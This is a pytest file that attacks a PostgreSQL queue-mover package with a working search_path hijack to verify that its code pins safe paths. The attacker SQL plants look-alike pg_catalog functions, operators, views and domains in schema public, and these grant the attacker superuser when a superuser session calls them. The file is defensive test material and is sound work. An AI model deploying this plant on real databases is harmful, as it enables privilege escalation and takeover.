"""The search_path hijack, attacked for real.

An attacker (a LOGIN role, no superuser, no PgQ role) holds CREATE on schema public of
the source and target databases, as every role did before PostgreSQL 15. The databases
and the mover's roles carry the careless default ``search_path = public, pg_catalog``.
The attacker plants in ``public`` a look-alike of everything the code could reach
through an unqualified name: every pg_catalog overload of every function and aggregate
named in the package's .py and .sql files or in the bodies of PgQ's and pgq_ext's
functions (plus better matches: integer where pg_catalog takes a wider number, a
concrete type where it takes "any"), every pg_catalog operator whose name appears in
that code (or that LIKE, BETWEEN, IN... stand for), and the catalog relations and
types the code names (views and domains). The lists are generated from the code and
the server's catalogs, never picked by hand.

Each look-alike counts its calls in a sequence (no rollback undoes a nextval), logs
them, makes the attacker superuser when it runs with superuser rights, and answers
what pg_catalog's original would. The test first proves the plant live (the
attacker's own session and an unpinned session of the mover's role are hijacked),
then runs every path of the package as a superuser mover: the core mover with its own
ticker, install, keep_event_id, the pgq_mover chunk path, rewind/reset/status, the
command line, the hook, the Airflow operators, the sensor and both triggers. After
each step no look-alike has been called and the attacker is not superuser; the moved
events are exactly the produced ones.
"""

from __future__ import annotations

import asyncio
import re
import subprocess
import sys
from collections import Counter
from collections.abc import Callable, Iterator
from contextlib import closing, contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from psycopg2 import sql
from psycopg2.extensions import connection as Connection
from psycopg2.extras import execute_values

import airflow_provider_pgq
from airflow_provider_pgq.core import pgq_ext
from airflow_provider_pgq.core.connect import connect
from airflow_provider_pgq.core.mover import CHUNK_PATH, COPY_PATH, DrainBounds, MoverOptions, QueueMover
from airflow_provider_pgq.core.pending import pending_status
from tests.helpers import (
    Login,
    Server,
    create_login,
    create_queue,
    mark_of,
    pooled,
    produce,
    queue_events,
    simple_events,
    tick,
)
from tests.support.cluster import ThrowawayCluster
from tests.support.pgbouncer import leave_settings

PACKAGE = Path(airflow_provider_pgq.__file__).resolve().parent
CLI = [sys.executable, "-m", "airflow_provider_pgq.cli"]

#: The careless default the databases and the mover's roles carry.
CARELESS = "public, pg_catalog"
#: What the other clients of a shared pool leave on its server sessions.
NEIGHBOURS = {"search_path": CARELESS, "statement_timeout": "0", "lock_timeout": "0"}

#: Operators that SQL syntax stands for: ``a LIKE b`` is the operator ~~ looked up by name.
KEYWORD_OPERATORS = {
    "like": ("~~", "!~~"), "ilike": ("~~*", "!~~*"), "between": (">=", "<=", ">", "<"),
    "in": ("=", "<>"), "any": ("=", "<>"), "all": ("=", "<>"), "distinct": ("=", "<>"),
    "nullif": ("=",), "case": ("=",), "greatest": (">", "<"), "least": (">", "<"),
}

_IDENTIFIER = re.compile(r"\b[A-Za-z_][A-Za-z0-9_]*\b")
_CALL = re.compile(r"\b([A-Za-z_][A-Za-z0-9_]*)\s*\(")
_OPERATOR_RUN = re.compile(r"[-+*/<>=~!@#%^&|`?]+")
_LOGGED_CALL = re.compile(r"search_path attack: (.*?) called as ")


def code_vocabulary() -> dict[str, set[str]]:
    """What the package's .py and .sql files could reach by name: identifiers followed by
    "(" (functions, aggregates), every identifier (relations, types), and every piece of
    every run of operator characters (operators; generous on purpose)."""
    found: dict[str, set[str]] = {"function": set(), "word": set(), "operator": set()}
    for path in sorted(PACKAGE.rglob("*")):
        if path.suffix not in (".py", ".sql"):
            continue
        text = path.read_text(encoding="utf-8")
        found["function"] |= {m.lower() for m in _CALL.findall(text)}
        found["word"] |= {m.lower() for m in _IDENTIFIER.findall(text)}
        for run in _OPERATOR_RUN.findall(text):
            found["operator"] |= {run[i:j] for i in range(len(run)) for j in range(i + 1, len(run) + 1)}
    if "!=" in found["operator"]:
        found["operator"].add("<>")  # the lexer turns != into <>
    for word, operators in KEYWORD_OPERATORS.items():
        if word in found["word"]:
            found["operator"] |= set(operators)
    return found


# -- the attacker's SQL --------------------------------------------------------------------

#: What PgQ's and pgq_ext's own functions name: they run in the caller's search_path.
PGQ_VOCABULARY = r"""
with bodies as (
    select f.prosrc from pg_catalog.pg_proc f join pg_catalog.pg_namespace n on n.oid = f.pronamespace
    where n.nspname in ('pgq', 'pgq_ext')
)
insert into pg_temp.attack_input (kind, value)
select distinct 'function', pg_catalog.lower(m[1])
  from bodies, pg_catalog.regexp_matches(prosrc, '([A-Za-z_][A-Za-z0-9_]*)\s*\(', 'g') m
union
select distinct 'word', pg_catalog.lower(m[1])
  from bodies, pg_catalog.regexp_matches(prosrc, '([A-Za-z_][A-Za-z0-9_]*)', 'g') m
union
select distinct 'operator', pg_catalog.substr(m[1], i, l)
  from bodies, pg_catalog.regexp_matches(prosrc, '([-+*/<>=~!@#%^&|`?]+)', 'g') m,
       pg_catalog.generate_series(1, pg_catalog.length(m[1])) i,
       pg_catalog.generate_series(1, pg_catalog.length(m[1]) - i + 1) l
"""

#: The payload every look-alike runs first. {escalate} is the attacker's ALTER ROLE.
RECORDER = r"""
create sequence public.attack_hits;
grant usage, select on sequence public.attack_hits to public;
create table public.attack_planted (kind text not null, what text not null);
create table public.attack_log (
    at timestamptz not null default pg_catalog.clock_timestamp(), what text, by_role text, query text);
grant insert on public.attack_log to public;
create function public.attack_hit(what text) returns boolean language plpgsql volatile
set search_path = pg_catalog, pg_temp as $$
declare
    lock_timeout text := pg_catalog.current_setting('lock_timeout');
begin
    perform pg_catalog.nextval('public.attack_hits');
    begin
        insert into public.attack_log (what, by_role, query)
        values ($1, session_user, pg_catalog.left(pg_catalog.current_query(), 400));
    exception when others then
        null;
    end;
    raise warning 'search_path attack: % called as % in a session of %', $1, current_user, session_user;
    if (pg_catalog.current_setting('is_superuser') = 'on'
        or exists (select from pg_catalog.pg_roles where rolname = current_user and rolsuper))
       and pg_catalog.current_setting('attack.tried', true) is distinct from 'yes' then
        -- once per transaction, and never blocking the victim: another of its
        -- transactions may hold the role's row already
        perform pg_catalog.set_config('attack.tried', 'yes', true);
        begin
            perform pg_catalog.set_config('lock_timeout', '20ms', true);
            execute {escalate};
            perform pg_catalog.set_config('lock_timeout', lock_timeout, true);
        exception when others then
            raise warning 'search_path attack: escalation failed: %', sqlerrm;
        end;
    end if;
    return true;
end $$;
"""

#: Run by the attacker in a session whose own search_path is pg_catalog, pg_temp (the
#: plant resolves nothing to its own look-alikes). Reads pg_temp.attack_input.
PLANT = r"""
create function pg_temp.plantable(t oid, as_result boolean) returns boolean language sql stable as $$
    select case
        when ty.typtype <> 'p' then true
        when ty.typname in ('anyelement', 'anyarray', 'anynonarray', 'anyenum', 'anyrange', 'anymultirange',
                            'anycompatible', 'anycompatiblearray', 'anycompatiblenonarray',
                            'anycompatiblerange', 'anycompatiblemultirange', 'record') then true
        when ty.typname = 'void' then as_result
        else false  -- internal, cstring, "any", trigger...: no PL/pgSQL twin
    end
    from pg_catalog.pg_type ty where ty.oid = t
$$;

create function pg_temp.is_poly(t oid) returns boolean language sql stable as $$
    select ty.typtype = 'p' and ty.typname like 'any%' and ty.typname <> 'any'
    from pg_catalog.pg_type ty where ty.oid = t
$$;

create function pg_temp.note(kind text, what text) returns void language sql as $$
    insert into public.attack_planted (kind, what) values (kind, what)
$$;

create temp sequence attack_names;

-- public.<name>(<args>) returns <result>: records the call, then runs <body>.
create function pg_temp.make_function(kind text, label text, name text, args text, result text, body text)
returns boolean language plpgsql as $$
begin
    execute pg_catalog.format(
        'create function public.%I(%s) returns %s language plpgsql volatile'
        ' set search_path = pg_catalog, pg_temp as %L',
        name, args, result,
        pg_catalog.format('begin perform public.attack_hit(%L); %s end', label, body));
    if kind is not null then
        perform pg_temp.note(kind, label);
    end if;
    return true;
exception when others then
    perform pg_temp.note('refused', label || ': ' || sqlerrm);
    return false;
end $$;

-- A twin of every overload: same arguments (names, modes, defaults, variadic) and result,
-- the body answering what pg_catalog's answers.
create function pg_temp.plant_functions() returns void language plpgsql as $$
declare
    p record;
    calls text;
    outs text;
    body text;
begin
    for p in
        select f.oid, f.proname, f.proretset, f.prorettype,
               pg_catalog.pg_get_function_arguments(f.oid) as args,
               pg_catalog.pg_get_function_result(f.oid) as result,
               coalesce(f.proallargtypes, f.proargtypes::oid[]) as types,
               coalesce(f.proargmodes, pg_catalog.array_fill('i'::"char", array[f.pronargs])) as modes
        from pg_catalog.pg_proc f
        where f.pronamespace = 'pg_catalog'::regnamespace and f.prokind = 'f'
          and f.proname in (select value from pg_temp.attack_input where kind = 'function')
        order by f.proname, f.oid
    loop
        continue when not pg_temp.plantable(p.prorettype, true)
            or exists (select from pg_catalog.unnest(p.types) t where not pg_temp.plantable(t, false));
        select pg_catalog.string_agg(case when m = 'v' then 'variadic $' else '$' end || i, ', ' order by i)
          into calls from pg_catalog.unnest(p.modes) with ordinality x(m, i) where m in ('i', 'b', 'v');
        select pg_catalog.string_agg('$' || i, ', ' order by i)
          into outs from pg_catalog.unnest(p.modes) with ordinality x(m, i) where m in ('o', 'b', 't');
        continue when p.prorettype = 'record'::regtype and outs is null;  -- no column list
        calls := coalesce(calls, '');
        if p.proretset then
            body := pg_catalog.format('return query select * from pg_catalog.%I(%s);', p.proname, calls);
        elsif outs is not null then
            body := pg_catalog.format('select * into %s from pg_catalog.%I(%s); return;', outs, p.proname, calls);
        elsif p.prorettype = 'void'::regtype then
            body := pg_catalog.format('perform pg_catalog.%I(%s); return;', p.proname, calls);
        else
            body := pg_catalog.format('return pg_catalog.%I(%s);', p.proname, calls);
        end if;
        perform pg_temp.make_function('function', p.oid::regprocedure::text, p.proname, p.args, p.result, body);
    end loop;
end $$;

-- Better matches than pg_catalog's overloads: integer where it takes a wider number (a
-- bare 0 is an integer: hashtextextended(text, integer) beats (text, bigint)), a
-- concrete type where it takes "any".
create function pg_temp.plant_variants() returns void language plpgsql as $$
declare
    p record;
    variant text[];
    stand_in text;
    casts text;
    label text;
begin
    for p in
        select f.oid, f.proname, f.prorettype, pg_catalog.format_type(f.prorettype, null) as result,
               array(select pg_catalog.format_type(t, null) from pg_catalog.unnest(f.proargtypes::oid[])
                     with ordinality x(t, i) order by i) as types
        from pg_catalog.pg_proc f
        where f.pronamespace = 'pg_catalog'::regnamespace and f.prokind = 'f' and not f.proretset
          and f.pronargs > 0 and coalesce(not f.proargmodes && array['o', 'b', 't']::"char"[], true)
          and f.proname in (select value from pg_temp.attack_input where kind = 'function')
          and pg_temp.plantable(f.prorettype, true) and not pg_temp.is_poly(f.prorettype)
          and f.prorettype <> 'record'::regtype
          and not exists (select from pg_catalog.unnest(f.proargtypes::oid[]) t
                          where t <> '"any"'::regtype and (not pg_temp.plantable(t, false) or pg_temp.is_poly(t)))
        order by f.proname, f.oid
    loop
        foreach stand_in in array array['integer', 'text', 'bigint', 'numeric', 'boolean',
                                        'timestamp with time zone'] loop
            select pg_catalog.array_agg(case
                       when t = '"any"' then stand_in
                       when stand_in = 'integer' and t in ('bigint', 'smallint', 'numeric', 'double precision', 'real')
                           then 'integer'
                       else t end order by i)
              into variant from pg_catalog.unnest(p.types) with ordinality x(t, i);
            label := pg_catalog.format('%s(%s)', p.proname, pg_catalog.array_to_string(variant, ','));
            continue when variant = p.types
                or pg_catalog.to_regprocedure('pg_catalog.' || pg_catalog.quote_ident(p.proname)
                                              || '(' || pg_catalog.array_to_string(variant, ',') || ')') is not null
                or pg_catalog.to_regprocedure('public.' || pg_catalog.quote_ident(p.proname)
                                              || '(' || pg_catalog.array_to_string(variant, ',') || ')') is not null;
            select pg_catalog.string_agg(case when t = '"any"' then '$' || i else '$' || i || '::' || t end, ', '
                                         order by i)
              into casts from pg_catalog.unnest(p.types) with ordinality x(t, i);
            perform pg_temp.make_function(
                'variant', label, p.proname, pg_catalog.array_to_string(variant, ', '), p.result,
                pg_catalog.format(case when p.prorettype = 'void'::regtype then 'perform pg_catalog.%I(%s); return;'
                                       else 'return pg_catalog.%I(%s);' end, p.proname, casts));
        end loop;
    end loop;
end $$;

-- public.<name>(<types>): the transition function records every row, the final function
-- every evaluation (over no rows too); one-argument ones answer what pg_catalog's would
-- (the rows are collected and handed to it), the others NULL.
create function pg_temp.make_aggregate(kind text, label text, name text, types text[], result text,
                                       arg_is_poly boolean, result_is_poly boolean)
returns void language plpgsql as $$
declare
    n bigint := pg_catalog.nextval('pg_temp.attack_names');
    sfunc text := 'attack_sfunc_' || n;
    ffunc text := 'attack_ffunc_' || n;
    stype text;
    initcond text;
    ok boolean;
begin
    if pg_catalog.cardinality(types) = 0 then
        if result <> 'bigint' then
            perform pg_temp.note('refused', label || ': no arguments, and not a count');
            return;
        end if;
        stype := 'bigint';
        initcond := ', initcond = 0';
        ok := pg_temp.make_function(null, label, sfunc, 'bigint', 'bigint', 'return $1 + 1;')
          and pg_temp.make_function(null, label, ffunc, 'bigint', 'bigint', 'return $1;');
    elsif pg_catalog.cardinality(types) = 1 and types[1] not like '%[]' and types[1] not like 'anycompatible%'
          and types[1] not in ('anyarray', 'anyrange', 'anymultirange') and (arg_is_poly or not result_is_poly) then
        stype := case when arg_is_poly then 'anyarray' else types[1] || '[]' end;
        ok := pg_temp.make_function(null, label, sfunc, stype || ', ' || types[1], stype,
                                    'return pg_catalog.array_append($1, $2);')
          and pg_temp.make_function(null, label, ffunc, stype, result,
                                    pg_catalog.format('return (select pg_catalog.%I(x) from pg_catalog.unnest($1) x);',
                                                      name));
    else
        stype := result;
        ok := pg_temp.make_function(null, label, sfunc, result || ', ' || pg_catalog.array_to_string(types, ', '),
                                    result, 'return $1;')
          and pg_temp.make_function(null, label, ffunc, result, result, 'return $1;');
    end if;
    if not ok then
        return;
    end if;
    execute pg_catalog.format(
        'create aggregate public.%I(%s) (sfunc = public.%I, stype = %s, finalfunc = public.%I%s)',
        name, coalesce(nullif(pg_catalog.array_to_string(types, ', '), ''), '*'), sfunc, stype, ffunc,
        coalesce(initcond, ''));
    perform pg_temp.note(kind, label);
exception when others then
    perform pg_temp.note('refused', label || ': ' || sqlerrm);
end $$;

create function pg_temp.plant_aggregates() returns void language plpgsql as $$
declare
    p record;
    stand_in text;
    variant text[];
begin
    for p in
        select f.oid, f.proname, f.prorettype, pg_catalog.format_type(f.prorettype, null) as result,
               array(select pg_catalog.format_type(t, null) from pg_catalog.unnest(f.proargtypes::oid[])
                     with ordinality x(t, i) order by i) as types,
               exists (select from pg_catalog.unnest(f.proargtypes::oid[]) t where pg_temp.is_poly(t)) as arg_is_poly
        from pg_catalog.pg_proc f join pg_catalog.pg_aggregate a on a.aggfnoid = f.oid
        where f.pronamespace = 'pg_catalog'::regnamespace and f.prokind = 'a' and a.aggkind = 'n'
          and f.provariadic = 0
          and f.proname in (select value from pg_temp.attack_input where kind = 'function')
          and pg_temp.plantable(f.prorettype, true) and f.prorettype <> 'record'::regtype
        order by f.proname, f.oid
    loop
        if '"any"' = any(p.types) then
            continue when p.arg_is_poly or pg_temp.is_poly(p.prorettype);
            foreach stand_in in array array['text', 'integer', 'bigint', 'numeric', 'boolean',
                                            'timestamp with time zone'] loop
                variant := pg_catalog.array_replace(p.types, '"any"', stand_in);
                perform pg_temp.make_aggregate(
                    'aggregate variant',
                    pg_catalog.format('%s(%s)', p.proname, pg_catalog.array_to_string(variant, ',')),
                    p.proname, variant, p.result, false, false);
            end loop;
        elsif not exists (select from pg_catalog.unnest(p.types) t where not pg_temp.plantable(t::regtype, false)) then
            perform pg_temp.make_aggregate('aggregate', p.oid::regprocedure::text, p.proname, p.types, p.result,
                                           p.arg_is_poly, pg_temp.is_poly(p.prorettype));
        end if;
    end loop;
end $$;

create function pg_temp.plant_operators() returns void language plpgsql as $$
declare
    op record;
    fname text;
begin
    for op in
        select o.oid, o.oprname, o.oprkind,
               pg_catalog.format_type(o.oprleft, null) as l, pg_catalog.format_type(o.oprright, null) as r,
               pg_catalog.format_type(o.oprresult, null) as res
        from pg_catalog.pg_operator o
        where o.oprnamespace = 'pg_catalog'::regnamespace and o.oprkind in ('b', 'l')
          and o.oprname in (select value from pg_temp.attack_input where kind = 'operator')
          and pg_temp.plantable(o.oprright, false) and o.oprright <> 'record'::regtype
          and (o.oprkind = 'l' or (pg_temp.plantable(o.oprleft, false) and o.oprleft <> 'record'::regtype))
          and pg_temp.plantable(o.oprresult, true) and o.oprresult not in ('void'::regtype, 'record'::regtype)
        order by o.oprname, o.oid
    loop
        fname := 'attack_op_' || op.oid;
        if op.oprkind = 'b' then
            continue when not pg_temp.make_function(null, op.oid::regoperator::text, fname, op.l || ', ' || op.r,
                op.res, pg_catalog.format('return $1 operator(pg_catalog.%s) $2;', op.oprname));
        else
            continue when not pg_temp.make_function(null, op.oid::regoperator::text, fname, op.r, op.res,
                pg_catalog.format('return operator(pg_catalog.%s) $1;', op.oprname));
        end if;
        begin
            execute pg_catalog.format('create operator public.%s (function = public.%I, %s rightarg = %s)',
                                      op.oprname, fname,
                                      case when op.oprkind = 'b' then 'leftarg = ' || op.l || ',' else '' end, op.r);
            perform pg_temp.note('operator', op.oid::regoperator::text);
        exception when others then
            perform pg_temp.note('refused', op.oid::regoperator::text || ': ' || sqlerrm);
        end;
    end loop;
end $$;

-- Catalog relations the code names, as views that record each use; base types it names,
-- as domains whose check records each value cast to them.
create function pg_temp.plant_relations_and_types() returns void language plpgsql as $$
declare
    r record;
begin
    for r in
        select c.relname,
               (select pg_catalog.string_agg(pg_catalog.quote_ident(a.attname), ', ' order by a.attnum)
                from pg_catalog.pg_attribute a join pg_catalog.pg_type t on t.oid = a.atttypid
                where a.attrelid = c.oid and a.attnum > 0 and not a.attisdropped and t.typtype <> 'p') as columns
        from pg_catalog.pg_class c
        where c.relnamespace = 'pg_catalog'::regnamespace and c.relkind in ('r', 'v')
          and c.relname in (select value from pg_temp.attack_input where kind = 'word')
          and pg_catalog.has_table_privilege(c.oid, 'select')
        order by c.relname
    loop
        begin
            execute pg_catalog.format(
                'create view public.%I as select %s from pg_catalog.%I where (select public.attack_hit(%L))',
                r.relname, r.columns, r.relname, 'relation ' || r.relname);
            execute pg_catalog.format('grant select on public.%I to public', r.relname);
            perform pg_temp.note('relation', r.relname);
        exception when others then
            perform pg_temp.note('refused', 'relation ' || r.relname || ': ' || sqlerrm);
        end;
    end loop;
    for r in
        select t.typname from pg_catalog.pg_type t
        where t.typnamespace = 'pg_catalog'::regnamespace and t.typtype = 'b' and t.typcategory <> 'A'
          and t.typname in (select value from pg_temp.attack_input where kind = 'word')
        order by t.typname
    loop
        begin
            execute pg_catalog.format('create domain public.%I as pg_catalog.%I check (public.attack_hit(%L))',
                                      r.typname, r.typname, 'type ' || r.typname);
            perform pg_temp.note('type', r.typname);
        exception when others then
            perform pg_temp.note('refused', 'type ' || r.typname || ': ' || sqlerrm);
        end;
    end loop;
end $$;
"""

PLANT_STEPS = ("functions", "variants", "aggregates", "operators", "relations_and_types")


# -- roles and databases ------------------------------------------------------------------


def _one(conn: Connection, query: Any, params: tuple[Any, ...] = ()) -> Any:
    with conn.cursor() as cur:
        cur.execute(query, params)
        row = cur.fetchone()
    return None if row is None else row[0]


@dataclass
class Arena:
    """The planted databases, the roles, and what the attacker has got so far."""

    cluster: ThrowawayCluster
    source: Server
    target: Server
    fresh: Server
    attacker: Login
    mover: Login
    chunk_writer: Login
    planted: dict[str, Counter[str]] = field(default_factory=dict)
    baseline: int = 0
    log_offset: int = 0
    #: how the package's clients reach a database: directly, or through the pool
    via: Callable[[Server], Server] = lambda server: server
    #: the pool's other clients, run before every step (pooled arenas only)
    neighbours: Callable[[], None] = lambda: None

    @property
    def databases(self) -> tuple[Server, Server, Server]:
        return self.source, self.target, self.fresh

    def hits(self, server: Server | None = None) -> int:
        """Look-alike calls so far (sequence values survive every rollback)."""
        servers = (server,) if server is not None else self.databases
        return sum(
            int(s.execute("select coalesce(pg_catalog.pg_sequence_last_value('public.attack_hits'), 0)")[0][0])
            for s in servers
        )

    def attacker_is_superuser(self) -> bool:
        return bool(self.cluster.execute(
            "postgres", "select rolsuper from pg_catalog.pg_roles where rolname = %s",
            (self.attacker.name,))[0][0])

    def _server_log(self) -> str:
        logfile = getattr(self.cluster, "logfile", None)
        if logfile is None or not Path(logfile).exists():
            return ""
        with open(logfile, "rb") as f:
            f.seek(self.log_offset)
            return f.read().decode("utf-8", "replace")

    def reset_baseline(self) -> None:
        for s in self.databases:
            s.execute("delete from public.attack_log")
        self.baseline = self.hits()
        logfile = getattr(self.cluster, "logfile", None)
        self.log_offset = Path(logfile).stat().st_size if logfile and Path(logfile).exists() else 0

    def calls(self) -> str:
        """Which look-alikes ran and where: the server log has every call, the attacker's
        log table those of committed transactions, with their statements."""
        called = Counter(m.group(1) for m in _LOGGED_CALL.finditer(self._server_log()))
        statements: Counter[str] = Counter()
        for s in self.databases:
            for what, who, query in s.execute("select what, by_role, query from public.attack_log"):
                statements[f"{s.dbname} {who}: {what} in: {' '.join(str(query).split())}"] += 1
        return "\n".join([
            "look-alikes called (server log): "
            + (", ".join(f"{name} x{n}" for name, n in called.most_common()) or "(no server log)"),
            "in the statements (attack_log, committed ones only):",
            *(f"  {text} (x{n})" for text, n in statements.most_common(25)),
        ])

    def damage(self, step: str) -> str | None:
        """None while no look-alike ran since the baseline and the attacker is no
        superuser; else what happened, for the failure message."""
        hits = self.hits() - self.baseline
        superuser = self.attacker_is_superuser()
        if hits == 0 and not superuser:
            return None
        return f"after {step}: {hits} look-alike calls, attacker superuser: {superuser}\n{self.calls()}"

    def assert_untouched(self, step: str) -> None:
        damage = self.damage(step)
        assert damage is None, damage

    @contextmanager
    def step(self, name: str) -> Iterator[None]:
        """Runs one step of the package, then asserts the attacker got nothing. A step
        that fails after reaching look-alikes (their domains and answers can break it)
        is reported as the hijack it is."""
        self.neighbours()
        try:
            yield
        except Exception as exc:
            damage = self.damage(f"{name}, which then failed with {type(exc).__name__}: {exc}")
            if damage is not None:
                raise AssertionError(damage) from exc
            raise
        self.assert_untouched(name)


def _plant(arena: Arena, server: Server, vocabulary: dict[str, set[str]]) -> Counter[str]:
    """Runs the plant as the attacker; returns how many look-alikes of each kind it made."""
    conn = arena.attacker.raw(server)
    try:
        with conn.cursor() as cur:
            cur.execute("set search_path = pg_catalog, pg_temp")
            cur.execute("create temp table attack_input (kind text not null, value text not null)")
            execute_values(cur, "insert into pg_temp.attack_input (kind, value) values %s",
                           [(kind, value) for kind, values in sorted(vocabulary.items()) for value in sorted(values)])
            cur.execute(PGQ_VOCABULARY)
            escalate = sql.SQL("alter role {} superuser").format(sql.Identifier(arena.attacker.name))
            cur.execute(sql.SQL(RECORDER).format(escalate=sql.Literal(escalate.as_string(conn))))
            cur.execute(PLANT)
            for step in PLANT_STEPS:
                cur.execute(sql.SQL("select {}()").format(sql.Identifier("pg_temp", "plant_" + step)))
            cur.execute("select kind, what from public.attack_planted")
            rows = cur.fetchall()
        conn.commit()
    finally:
        conn.close()
    refused = [what for kind, what in rows if kind == "refused"]
    assert not refused, f"look-alikes the attacker could not create in {server.dbname}: {refused}"
    return Counter(kind for kind, _ in rows)


@pytest.fixture(params=["direct", "transaction pool"])
def arena(request: pytest.FixtureRequest, cluster: ThrowawayCluster,
          make_db: Callable[..., Server]) -> Iterator[Arena]:
    """direct: the package's clients connect to the server; transaction pool: through a
    PgBouncer in transaction pooling whose two server sessions per database and login
    other clients of the same logins share, leaving search_path = public, pg_catalog
    (and no timeouts) on them at session level before every step."""
    source = make_db(queue="src_q")
    target = make_db(queue="dst_q", ext=True)
    for queue in ("cli_q", "chunk_q", "op_q"):
        create_queue(target, queue)
    fresh = make_db(queue="dst_q")  # no pgq_ext: the mover installs it
    databases = (source, target, fresh)
    admin = str(cluster.execute("postgres", "select current_user::text")[0][0])
    logins: list[Login] = []
    try:
        attacker = create_login(cluster, "sp_attacker")
        logins.append(attacker)
        mover = create_login(cluster, "sp_mover", superuser=True)
        logins.append(mover)
        # the target login of the chunk path holds only the role pgq_ext's install made for it
        chunk_writer = create_login(cluster, "sp_chunk", in_role=getattr(pgq_ext, "MOVER_ROLE", "pgq_writer"))
        logins.append(chunk_writer)
        for server in databases:
            db = sql.Identifier(server.dbname)
            # The test's own admin sessions (helpers, checks) keep a safe path: they are the
            # harness, not what is under test.
            cluster.execute("postgres", sql.SQL("alter role {} in database {} set search_path = pg_catalog, pg_temp")
                            .format(sql.Identifier(admin), db))
            cluster.execute("postgres", sql.SQL("alter database {} set search_path = " + CARELESS).format(db))
            server.execute(sql.SQL("grant create on schema public to {}").format(sql.Identifier(attacker.name)))
        for login in (mover, chunk_writer):
            cluster.execute("postgres", sql.SQL("alter role {} set search_path = " + CARELESS)
                            .format(sql.Identifier(login.name)))
        arena = Arena(cluster, source, target, fresh, attacker, mover, chunk_writer)
        if request.param != "direct":
            bouncer = request.getfixturevalue("bouncer")
            arena.via = lambda server: pooled(bouncer, server)

            def neighbours() -> None:
                for server in databases:
                    for login in (mover, chunk_writer):
                        leave_settings(login.dsn(pooled(bouncer, server)), bouncer.pool_size, NEIGHBOURS)

            arena.neighbours = neighbours
        vocabulary = code_vocabulary()
        for server in databases:
            arena.planted[server.dbname] = _plant(arena, server, vocabulary)
        _prove_the_plant_is_live(arena)
        arena.reset_baseline()
        yield arena
    finally:
        for server in databases:  # with every object of the roles in them
            cluster.drop_database(server.dbname)
        for login in logins:
            cluster.execute("postgres", sql.SQL("drop role if exists {}").format(sql.Identifier(login.name)))


def _prove_the_plant_is_live(arena: Arena) -> None:
    """The premise: with the careless defaults, an unqualified call reaches the attacker's
    code, and in a superuser's session that code makes the attacker superuser."""
    for server in arena.databases:
        planted = arena.planted[server.dbname]
        assert planted["function"] > 50 and planted["aggregate"] > 10 and planted["operator"] > 100, planted
        names = {r[0] for r in server.execute("select what from public.attack_planted")}
        assert {"hashtextextended(text,bigint)", "hashtextextended(text,integer)", "txid_current()",
                "array_agg(anynonarray)", "count()", "=(text,text)", "||(text,text)"} <= names
        with closing(arena.attacker.raw(server)) as conn:
            assert _one(conn, "show search_path") == CARELESS
            before = arena.hits(server)
            expected = server.execute("select pg_catalog.hashtextextended('x', 0)")[0][0]
            assert _one(conn, "select hashtextextended('x', 0)") == expected
            assert arena.hits(server) == before + 1, "the attacker's own call did not reach the look-alike"
    for login in (arena.mover, arena.chunk_writer):
        with closing(login.raw(arena.target)) as conn:
            assert _one(conn, "show search_path") == CARELESS
    assert not arena.attacker_is_superuser()
    # The mover's role in a session without the pin, as the old code opened them.
    with closing(arena.mover.raw(arena.source)) as conn:
        before = arena.hits(arena.source)
        _one(conn, "select hashtextextended('x', 0)")
        conn.commit()
    assert arena.hits(arena.source) > before
    assert arena.attacker_is_superuser(), "the planted payload did not escalate in a superuser's session"
    arena.cluster.execute("postgres", sql.SQL("alter role {} nosuperuser").format(sql.Identifier(arena.attacker.name)))
    assert not arena.attacker_is_superuser()


# -- the run ----------------------------------------------------------------------------------


def _drain(source_dsn: str, target_dsn: str, bounds: DrainBounds | None = None, **options: Any) -> Any:
    opts = MoverOptions(source_queue="src_q", target_queue=options.pop("target_queue", "dst_q"),
                        consumer=options.pop("consumer"), **options)
    with closing(connect(source_dsn, application_name="sp-src")) as s, \
            closing(connect(target_dsn, application_name="sp-dst")) as t:
        return QueueMover(s, t, opts).drain(bounds)


def _mover_call(arena: Arena, action: str, consumer: str = "mover") -> Any:
    opts = MoverOptions(source_queue="src_q", target_queue="dst_q", consumer=consumer)
    with closing(connect(arena.mover.dsn(arena.via(arena.source)))) as s, \
            closing(connect(arena.mover.dsn(arena.via(arena.target)))) as t:
        return getattr(QueueMover(s, t, opts), action)()


def _cli(ini: Path, *switches: str) -> subprocess.CompletedProcess[str]:
    proc = subprocess.run([*CLI, *switches, str(ini)], cwd=ini.parent, capture_output=True, text=True, timeout=120)
    assert proc.returncode == 0, proc.stderr
    return proc


async def _first_event(trigger: Any) -> dict[str, Any]:
    events = trigger.run()
    try:
        event = await asyncio.wait_for(events.__anext__(), 30)
    finally:
        await events.aclose()
    return dict(event.payload)


def test_search_path_hijack_reaches_nothing(arena: Arena, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from airflow_provider_pgq.hooks.pgq import PgqHook
    from airflow_provider_pgq.operators.admin import (
        PgqCreateQueueOperator,
        PgqRegisterConsumerOperator,
        PgqTickerOperator,
    )
    from airflow_provider_pgq.operators.queue_mover import PgqQueueMoverOperator
    from airflow_provider_pgq.sensors.pgq import PgqQueueSensor
    from airflow_provider_pgq.triggers.pgq import PgqEventsTrigger, PgqQueueEventTrigger

    source, target, fresh, mover = arena.source, arena.target, arena.fresh, arena.mover
    # how the package's clients reach the three databases (the checks read them directly)
    to_source, to_target, to_fresh = arena.via(source), arena.via(target), arena.via(fresh)
    src, dst = mover.dsn(to_source), mover.dsn(to_target)
    monkeypatch.setenv("AIRFLOW_CONN_SP_SRC", mover.uri(to_source))
    monkeypatch.setenv("AIRFLOW_CONN_SP_DST", mover.uri(to_target))
    ini = tmp_path / "sp_cli.ini"
    ini.write_text(
        "[queue_mover]\njob_name = sp_cli\n"
        f"src_db = {src}\ndst_db = {dst}\n"
        "pgq_queue_name = src_q\ndst_queue_name = cli_q\npgq_consumer_id = cli\n"
    )
    fresh_ini = tmp_path / "sp_fresh.ini"
    fresh_ini.write_text(
        "[queue_mover]\njob_name = sp_fresh\n"
        f"src_db = {src}\ndst_db = {mover.dsn(to_fresh)}\n"
        "pgq_queue_name = src_q\ndst_queue_name = dst_q\npgq_consumer_id = kept\n"
    )

    # 1. every consumer registers through a different path of the package
    with arena.step("the core mover's registration"):
        assert _drain(src, dst, consumer="mover", register_consumer=True).events == 0
    with arena.step("pgq_ext's install by the mover (install_pgq_ext=True, keep_event_id)"):
        report = _drain(src, mover.dsn(to_fresh), consumer="kept", register_consumer=True, install_pgq_ext=True,
                        keep_event_id=True)
        assert report.events == 0
    assert fresh.execute("select pg_catalog.to_regnamespace('pgq_ext') is not null")[0][0]
    chunk_dsn = arena.chunk_writer.dsn(to_target)
